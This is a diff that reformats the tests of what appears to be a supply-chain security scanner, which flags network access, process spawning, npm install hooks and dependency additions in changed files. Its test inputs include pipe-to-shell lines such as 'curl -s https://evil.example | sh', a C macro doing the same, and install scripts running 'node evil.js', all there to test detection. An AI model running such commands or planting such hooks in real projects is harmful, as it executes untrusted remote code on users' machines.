@@ -47,7 +47,11 @@ fn js_private_field_is_not_a_hash_comment() {
     );
     assert!(has(&flags, Rule::ProcessSpawn, 2), "{flags:?}");
     // C preprocessor lines and Rust attributes are code as well.
-    let flags = scan("x.c", None, "#define RUN system(\"curl http://e.example | sh\")\n");
+    let flags = scan(
+        "x.c",
+        None,
+        "#define RUN system(\"curl http://e.example | sh\")\n",
+    );
     assert!(has(&flags, Rule::NetworkAccess, 1), "{flags:?}");
     // Benign: `#` is a comment in Python and shell.
     assert!(scan("a.py", None, "# os.system('curl x | sh')\n").is_empty());
@@ -70,15 +74,28 @@ fn script_without_extension_is_scanned_by_its_shebang() {
     assert!(has(&flags, Rule::NetworkAccess, 3), "{flags:?}");
     assert!(has(&flags, Rule::EnvCredentials, 3), "{flags:?}");
     // The interpreter picks the comment syntax: `#` is code in node, a comment in Python.
-    let flags = scan("bin/tool", None, "#!/usr/bin/python3\n# os.system('x')\nexec(blob)\n");
+    let flags = scan(
+        "bin/tool",
+        None,
+        "#!/usr/bin/python3\n# os.system('x')\nexec(blob)\n",
+    );
     assert!(
         has(&flags, Rule::DynamicEval, 3) && !has(&flags, Rule::ProcessSpawn, 2),
         "{flags:?}"
     );
-    let flags = scan("bin/run", None, "#!/bin/sh -e\ncurl -s https://evil.example | sh\n");
+    let flags = scan(
+        "bin/run",
+        None,
+        "#!/bin/sh -e\ncurl -s https://evil.example | sh\n",
+    );
     assert!(has(&flags, Rule::NetworkAccess, 2), "{flags:?}");
     // Benign: an extensionless text file without `#!` is not code.
-    assert!(scan("INSTALL", None, "curl https://example.com/install.sh | sh\n").is_empty());
+    assert!(scan(
+        "INSTALL",
+        None,
+        "curl https://example.com/install.sh | sh\n"
+    )
+    .is_empty());
 }
 
 #[test]
@@ -161,11 +178,31 @@ fn unparsable_manifest_is_flagged_not_skipped() {
             "{\n  \"description\": \"\\ud800\",\n  \"scripts\": {\"install\": \"node x.js\"}\n}\n",
             Some(2),
         ),
-        ("package.json", "{\"scripts\": {\"install\": \"x\"},}\n", Some(1)),
-        ("Cargo.toml", "[package]\nname = \"x\"\n[dependencies\nevil = \"1\"\n", Some(3)),
-        ("pyproject.toml", "[project]\ndependencies = [\n  \"evil\n]\n", Some(3)),
-        ("pyproject.toml", "[project]\ndependencies = [\n  \"evil\",\n", Some(2)),
-        ("setup.cfg", "[options]\ninstall_requires\n    evil\n", Some(2)),
+        (
+            "package.json",
+            "{\"scripts\": {\"install\": \"x\"},}\n",
+            Some(1),
+        ),
+        (
+            "Cargo.toml",
+            "[package]\nname = \"x\"\n[dependencies\nevil = \"1\"\n",
+            Some(3),
+        ),
+        (
+            "pyproject.toml",
+            "[project]\ndependencies = [\n  \"evil\n]\n",
+            Some(3),
+        ),
+        (
+            "pyproject.toml",
+            "[project]\ndependencies = [\n  \"evil\",\n",
+            Some(2),
+        ),
+        (
+            "setup.cfg",
+            "[options]\ninstall_requires\n    evil\n",
+            Some(2),
+        ),
     ];
     for (path, new, line) in cases {
         let flags = scan(path, Some(""), new);
@@ -173,7 +210,11 @@ fn unparsable_manifest_is_flagged_not_skipped() {
             .iter()
             .find(|f| f.rule == Rule::UnparsedManifest)
             .unwrap_or_else(|| panic!("{path} {new:?}: {flags:?}"));
-        assert_eq!((flag.severity, flag.line), (Severity::High, line), "{new:?}");
+        assert_eq!(
+            (flag.severity, flag.line),
+            (Severity::High, line),
+            "{new:?}"
+        );
         assert!(flag.message.contains("not checked"), "{}", flag.message);
     }
     // Benign: TOML the line reader must not mistake for broken (a multi-line string holding
@@ -192,7 +233,13 @@ const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
         9,
         Severity::High,
     ),
-    ("Cargo.toml", CARGO, "[dev-dependencies.evil-dev]\nversion = \"1\"\n", 9, Severity::Low),
+    (
+        "Cargo.toml",
+        CARGO,
+        "[dev-dependencies.evil-dev]\nversion = \"1\"\n",
+        9,
+        Severity::Low,
+    ),
     (
         "Cargo.toml",
         CARGO,
@@ -207,7 +254,13 @@ const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
         9,
         Severity::Medium,
     ),
-    ("Cargo.toml", CARGO, "[workspace.dependencies]\nevil = \"1\"\n", 9, Severity::Medium),
+    (
+        "Cargo.toml",
+        CARGO,
+        "[workspace.dependencies]\nevil = \"1\"\n",
+        9,
+        Severity::Medium,
+    ),
     (
         "Cargo.toml",
         CARGO,
@@ -243,7 +296,13 @@ const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
         9,
         Severity::High,
     ),
-    ("pyproject.toml", PYPROJECT, "[dependency-groups]\nlint = [\"evil\"]\n", 9, Severity::Medium),
+    (
+        "pyproject.toml",
+        PYPROJECT,
+        "[dependency-groups]\nlint = [\"evil\"]\n",
+        9,
+        Severity::Medium,
+    ),
     (
         "pyproject.toml",
         PYPROJECT,
@@ -251,7 +310,13 @@ const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
         10,
         Severity::Medium,
     ),
-    ("pyproject.toml", PYPROJECT, "[tool.poetry.dependencies]\nevil = \"^1\"\n", 9, Severity::Medium),
+    (
+        "pyproject.toml",
+        PYPROJECT,
+        "[tool.poetry.dependencies]\nevil = \"^1\"\n",
+        9,
+        Severity::Medium,
+    ),
     (
         "pyproject.toml",
         PYPROJECT,
@@ -260,10 +325,17 @@ const TOML_FORMS: &[(&str, &str, &str, u32, Severity)] = &[
         Severity::Medium,
     ),
     // An escape in a quoted key spells `dependencies` all the same.
-    ("pyproject.toml", PYPROJECT, "[tool.poetry.\"depend\\u0065ncies\"]\nevil = \"1\"\n", 9, Severity::Medium),
+    (
+        "pyproject.toml",
+        PYPROJECT,
+        "[tool.poetry.\"depend\\u0065ncies\"]\nevil = \"1\"\n",
+        9,
+        Severity::Medium,
+    ),
 ];
 
-const CARGO: &str = "[package]\nname = \"x\"\nversion = \"1.0.0\"\n\n[dependencies]\nserde = \"1\"\n";
+const CARGO: &str =
+    "[package]\nname = \"x\"\nversion = \"1.0.0\"\n\n[dependencies]\nserde = \"1\"\n";
 const PYPROJECT: &str = "[project]\nname = \"x\"\nversion = \"1.0.0\"\n\n[tool.x]\na = 1\n";
 
 #[test]
@@ -275,7 +347,11 @@ fn every_toml_dependency_table_form_is_read() {
             .iter()
             .find(|f| f.rule == Rule::DependencyChange)
             .unwrap_or_else(|| panic!("{added:?} not flagged: {flags:?}"));
-        assert_eq!((flag.line, flag.severity), (Some(line), severity), "{added:?}: {flags:?}");
+        assert_eq!(
+            (flag.line, flag.severity),
+            (Some(line), severity),
+            "{added:?}: {flags:?}"
+        );
     }
     // Top-level dotted keys and inline tables, in front of the first table.
     for added in [
@@ -321,7 +397,11 @@ fn npm_hook_line_is_the_key_inside_scripts() {
     let old = "{\n  \"name\": \"x\",\n  \"keywords\": [\"install\"],\n  \"scripts\": {}\n}\n";
     let new = "{\n  \"name\": \"x\",\n  \"keywords\": [\"install\"],\n  \"scripts\": {\n    \"install\": \"node evil.js\"\n  }\n}\n";
     let flags = scan("package.json", Some(old), new);
-    assert_eq!(flag_of(&flags, Rule::InstallHook).line, Some(5), "{flags:?}");
+    assert_eq!(
+        flag_of(&flags, Rule::InstallHook).line,
+        Some(5),
+        "{flags:?}"
+    );
     // The last of two `install` keys is the one npm runs, and the one pointed at.
     let twice = "{\n  \"scripts\": {\n    \"install\": \"true\",\n    \"install\": \"node evil.js\"\n  }\n}\n";
     let flags = scan("package.json", Some("{}"), twice);
